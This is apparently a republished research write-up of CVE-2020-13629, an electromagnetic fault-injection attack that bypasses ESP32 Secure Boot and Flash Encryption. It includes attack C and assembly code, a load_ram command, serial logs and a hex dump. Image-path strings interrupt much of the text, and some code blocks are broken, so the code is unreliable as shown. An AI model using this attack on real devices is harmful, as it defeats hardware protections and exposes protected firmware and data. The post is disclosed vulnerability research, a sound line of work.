Espressif ESP32: Bypassing Encrypted Secure Boot (CVE-2020-13629)

SP32: Bypassing Encrypted Secure Boot (CVE-2020-13629)

Original text by Raelize

We arrived at the last post about our Fault Injection research on the ESP32. Please read our previous posts as it provides context to the results described in this post.

During our Fault Injection research on the ESP32, we gradually took steps forward in order to identify the required vulnerabilities that allowed us to bypass Secure Boot and Flash Encryption with a single EM glitch. Moreover, we did not only achieve code execution, we also extracted the plain-text flash data from the chip.

Espressif requested a CVE for the attack described in this post: CVE-2020-13629. Please note, that the attack as described in this post, is only applicable to ESP32 silicon revision 0 and 1. The newer ESP32 V3 silicon supports functionality to disable the UART bootloader that we leveraged for the attack.

UART bootloader

The ESP32 implements an UART bootloader in its ROM code. This feature allows, among other functionality, to program the external flash.It’s not uncommon that such functionality is implemented in the ROM code as it’s quite robust as the code cannot get corrupt easily. If this functionality would be implemented by code stored in the external flash, any corruption of the flash may result in a bricked device.

Typically, this type of functionality is accessed by booting the chip in a special boot mode. The boot mode selection is often done using one or more external strap pin(s) which are set before resetting the chip. On the ESP32 it works exactly like this pin G0 which is exposed externally.

The UART bootloader supports many interesting commands that can be used to read/write memory, read/write registers and even execute a stub from SRAM.

Executing arbitrary code

The UART bootloader supports loading and executing arbitrary code using theload_ram command. The ESP32‘s SDK includes all the tooling required to compile the code that can be executed from SRAM. For example, the following code snippet will print SRAM CODE\n on the serial interface.

void __attribute__((noreturn)) call_start_cpu0()
    ets_printf("SRAM CODE\n");
    while (1);

The tool, which is part of the ESP32‘s SDK, can be used to load the compiled binary into the SRAM after which it will be executed. --chip esp32 --no-stub --port COM3 load_ram code.bin

Interestingly, the UART bootloader cannot disabled and therefore always accessible, even when Secure Boot and Flash Encryption are enabled.

Additional measures

Obviously, if no additional security measures would be taken, leaving the UART bootloader always accessible would render Secure Boot and Flash Encryption likely useless. Therefore, Espressif implemented additional security measures which are enabled using dedicated eFuses.

These are security configuration bits implemented in special memory, often referred to as OTP memory, which can typically only change from 0 to 1. This guarantees, that once enabled, is enabled forever. The following OTP memory bits are used to disable specific functionality when the ESP32 is in the UART bootloader boot mode.

  • DISABLE_DL_ENCRYPT: disables flash encryption operation
  • DISABLE_DL_DECRYPT: disables transparent flash decryption
  • DISABLE_DL_CACHE: disables the entire MMU flash cacheThe most relevant OTP memory bit is DISABLE_DL_DECRYPT as it disables the transparent decryption of the flash data.

If not set, it would be possible to simply access the plain-text flash data while the ESP32 is in its UART bootloader boot mode.

If set, any access to the flash, when the chip is in UART bootloader boot mode, will yield just the encrypted data. The Flash Encryption feature, which is fully implemented in hardware and transparent to the processor, is only enabled in when the ESP32 is in Normal boot mode.

The attacks described in this post have all these bits set to 1.

Persistent data in SRAMThe SRAM memory that’s used by the ESP32 is typical technology that’s used by many chips. It’s commonly used to the ROM‘s stack and executing the first bootloader from flash. It’s convenient to use at early boot as it typically require no configuration before it can be used.

We know from previous experience that the data stored in SRAM memory is persistent until it’s overwritten or the required power is removed from the physical cells. After a cold reset (i.e. power-cycle) of the chip, the SRAM will be reset to its default state. This often semi-random and unique per chip as the default value for each bit (i.e. 0 or 1) is different.

However, after a warm reset, where the entire chip is reset without removing the power, it may happen that the data stored in SRAM remains unaffected. This persistence of the data is visualized in the picture below.

We decided to figure out if this behavior holds up for the ESP32 as well. We identified that the hardware watchdog canbe used to issue a warm reset from software. This watchdog can also be issued when the chip is in UART bootloader boot mode and therefore we can use it to reset the ESP32 back into Normal boot mode.Using some test code, loaded and executed in SRAM using the UART bootloader, we determined that the data in SRAM is indeed persistent after issuing a warm reset using the watchdog. Effectively this means we can boot the ESP32 in Normal boot mode with the SRAM filled with controlled data.

But… how can we (ab)use this?

Road to failure

We envisioned that we may be able to leverage the persistence of data in SRAM across warm resets for an attack. The first attack we came up with is to fill the SRAM with code using the UART bootloader and issue a warm reset using the watchdog. Then, we inject aglitch while the ROM code is overwriting this code with the flash bootloader during a normal boot.

We got this ideas as during our previous experiments, where we turned data transfers into code execution, we noticed that for some experiments the chip started executing from the entry address before the bootloader was finished copying.

Sometimes you just need to try it…

Attack code

The code that we load into the SRAM using the UART bootloader is shown below.

#define a "addi a6, a6, 1;"
#define t a a a a a a a a a a
#define h t t t t t t t t t t
#define d h h h h h h h h h hvoid __attribute__((noreturn)) call_start_cpu0() {
    uint8_t cmd;

    ets_printf("SRAM CODE\n");

    while(1) {

        cmd = 0;

        if(cmd == 'A') {                                    // 1
            *(unsigned int *)(0x3ff4808c) = 0x4001f880;
            *(unsigned int *)(0x3ff48090) = 0x00003a98;
            *(unsigned int *)(0x3ff4808c) = 0xc001f880;

    asm volatile ( d );                                     // 2

    "movi a6, 0x40; slli a6, a6, 24;"                       // 3
    "movi a7, 0x00; slli a7, a7, 16;"
    "xor a6, a6, a7;"
    "movi a7, 0x7c; slli a7, a7, 8;"
    "xor a6, a6, a7;"
    "movi a7, 0xf8;"
    "xor a6, a6, a7;"

    "movi a10, 0x52; callx8  a6;" // R
    "movi a10, 0x61; callx8  a6;" // a
    "movi a10, 0x65; callx8  a6;" // e
    "movi a10, 0x6C; callx8  a6;" // l
    "movi a10, 0x69; callx8  a6;" // i
    "movi a10, 0x7A; callx8  a6;" // z"movi a10, 0x65; callx8  a6;" // e
    "movi a10, 0x21; callx8  a6;" // !
    "movi a10, 0x0a; callx8  a6;" // \n


To summarize, the above code implements thefollowing:

  1. Command handler with a single command to perform a watchdog reset
  2. NOP-like padding using addi instructions
  3. Assembly for printing Raelize! on the serial interface

Please note, the listing’s numbers match the numbers in the code.


We target a reasonably small attack window at the start of F which is shown in thepicture below. We know from previous experiments that during this moment the flash bootloader is copied.

The glitch must be injected before our code in SRAM is entirely overwritten by the valid flash bootloader.

Attack cycle

We took the following steps for each experiment to determine if the attack idea actually works. A successful glitch will print Raelize! on the serial interface.

  1. Set pin G0 to low and perform a cold reset to enter UART bootloader boot mode
  2. Use the load_ram command to execute our attack code from SRAM
  3. Send an A to the program to issue a warm reset into normal boot mode4. Inject a glitch while the flash bootloader is being copied by the ROM code


After running these experiments for more than a day, resulting in more than 1 million experiments, we did not observe any successful glitch…

An unexpected result

Nonetheless, while analyzing the results, we noticed something unexpected.

The serial interface output for one of the experiments, which is shown below, indicated that the glitch caused an illegal instruction exception.

ets Jun  8 2016 00:22:57
configsip: 0, SPIWP:0xee
mode:DIO, clock div:2entry 0x40080740
Fatal exception (0): IllegalInstruction
epc1=0x661b661b, epc2=0x00000000, epc3=0x00000000,
excvaddr=0x00000000, depc=0x00000000

These type of exceptions happened quite often whenglitches are injected in a chip. This was not different for the ESP32. For most the exceptions the PC register is set to a value that’s expected (i.e. a valid address). It does not happen often the PC register is set to such an interesting value.

The Illegal Instruction exception is caused as there is no valid instruction stored at the 0x661b661b address. We conclude this value must come from somewhere and that is cannot magically end up in the PC register.

We analyzed the code that we load into the SRAM in order to find an explanation. The binary code, of which a snippet is shown below, quickly gave us the answer we were looking for. The value 0x661b661b is easily identified in the above binary image. It actually represents two addi a6, a6, 1 instructions of which we implemented 1000 in our test code.

00000000  e9 02 02 10 28 04 08 40  ee 00 00 00 00 00 00 00  |....(..@........|
00000010  00 00 00 00 00 00 00 01  00 00 ff 3f 0c 00 00 00  |...........?....|
00000020  53 52 41 4d 20 43 4f 44  45 0a 00 00 00 04 08 40  |SRAM CODE......@|
00000030  50 09 00 00 00 00 ff 3f  04 04 fe 3f 4d 04 08 40  |P......?...?M..@|
00000040  00 04 fe 3f 8c 80 f4 3f  90 80 f4 3f 98 3a 00 00  |...?...?...?.:..|
00000050  80 f8 01 c0 54 7d 00 40  d0 92 00 40 36 61 00 a1  |....T}.@...@6a..|
00000060  f5 ff 81 fc ff e0 08 00  0c 08 82 41 00 ad 01 81  |...........A....|
00000070  fa ff e0 08 00 82 01 00  4c 19 97 98 1f 81 ef ff  |........L.......|
00000080  91 ee ff 89 09 91 ee ff  89 09 91 f0 ff 81 ee ff  |................|
00000090  99 08 91 ef ff 81 eb ff  99 08 86 f2 ff 5c a9 97  |.............\..|000000a0  98 c5 1b 66 1b 66 1b 66  1b 66 1b 66 1b 66 3e 0c  |...f.f.f.f.f.f>.|
000000b0  1b 66 1b 66 1b 66 1b 66  1b 66 1b 66 1b 66 1b 66  |.f.f.f.f.f.f.f.f|
000000c0  1b 66 1b 66 1b 66 1b 66  1b 66 1b 66 1b 66 1b 66  |.f.f.f.f.f.f.f.f|
000000d0  1b 66 1b 66 1b 66 1b 66  1b 66 1b 66 1b 66 1b 66  |.f.f.f.f.f.f.f.f|
00000330  1b 66 1b 66 1b 66 1b 66  1b 66 1b 66 1b 66 1b 66  |.f.f.f.f.f.f.f.f|
00000340  1b 66 1b 66 1b 66 1b 66  1b 66 1b 66 1b 66 1b 66  |.f.f.f.f.f.f.f.f|
00000350  1b 66 1b 66 1b 66 1b 66  1b 66 1b 66 1b 66 1b 66  |.f.f.f.f.f.f.f.f|

We just use these instructions as NOPs in order to create a landing zone in a similar fashion a NOP-sled is often used in software exploits. We did not anticipate these instructions would end up in the PC register.

Of course, we did not mind either. We concluded that, we are able to load data from SRAM into the PC register when we inject a glitch while the flash bootloader is being copied by the ROM code .

We quickly realized, we now have all the ingredients to cook up an attack where we bypass Secure Boot and Flash Encryption using a single glitch. We reused some of the knowledge obtained during a previously described attack where we take control of the PC register.

Road to success

We reused most of the code that we previously loaded into SRAM using the UART bootloader. Only the payload (i.e. printing) that weintended to execute is removed as our strategy is now to set the PC register to an arbitrary value in order to take control.

#define a "addi a6, a6, 1;"
#define t a a a a a a a a a a
#define h t t t t t t t t t t
#define d h h h h h h h h h h

void __attribute__((noreturn)) call_start_cpu0() {
    uint8_t cmd;
    ets_printf("SRAM CODE\n");

    while (1) {

        cmd = 0;

        if(cmd == 'A') {
            *(unsigned int *)(0x3ff4808c) = 0x4001f880;
            *(unsigned int *)(0x3ff48090) = 0x00003a98;
            *(unsigned int *)(0x3ff4808c) =0xc001f880;

    asm volatile ( d );


After compiling the above code, we overwrite directly in the binary the addi instructions with the address pointer 0x4005a980. This address points to a function in the ROM code that prints something on the serial interface. This allows us to identify when we are successful.

We fixed the glitch parameters to that of the experiment that caused the Illegal Instruction exception. After a short while, we successfully identified several experiments during which the address pointer is loaded into the PC register. Effectively this provides us with control of the PC register and we can likely achieve arbitrary code execution.

Why does this work?

Good question. Not so easy to answer.

Unfortunately, we do not have a sound answer for you. We definitely did not anticipate that controlling the data at the destination could yield control of the PC register. We came up with a few possibilities, but we cannot say withfull confidence if any of these is actually correct.

